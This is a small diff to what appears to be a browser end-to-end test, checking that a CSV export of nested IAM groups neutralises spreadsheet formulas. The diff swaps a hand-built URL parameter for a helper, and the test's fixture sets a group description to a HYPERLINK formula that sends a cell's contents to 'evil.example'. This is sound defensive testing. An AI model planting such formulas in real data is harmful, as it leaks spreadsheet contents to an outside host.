@@ -7,6 +7,7 @@ import type { Identity } from "~/contract/iam/identities";
 import { fault, ownService, test as throughProxy } from "./faulty";
 import { expect, test } from "./fixtures";
 import { allOf, chooseTool, createAll, hasNoFinding, machine } from "./lists";
+import { param } from "./records";
 
 const textOf = async (download: Download): Promise<string> => readFile(await download.path(), "utf8");
 
@@ -101,7 +102,7 @@ test("a file of groups has the names above each, and no cell that a spreadsheet 
   const evil = '=HYPERLINK("https://evil.example/?"&A1,"open")';
   const outer = await api.post<Group>(`/iam/v2/groups/${organization.uid}`, { name: "outer" });
   const inner = await api.post<Group>(`/iam/v2/groups/${outer.uid}`, { name: "inner", description: evil });
-  await open(`groups?group=${outer.uid.replaceAll("/", "_")}`);
+  await open(`groups?group=${param(outer)}`);
   await expect(page.getByRole("link", { name: "inner" })).toBeVisible();
   const [file] = await Promise.all([page.waitForEvent("download"), chooseTool(page, "Export CSV")]);
   expect(file.suggestedFilename()).toMatch(/^groups-outer-\d{4}-\d{2}-\d{2}\.csv$/);
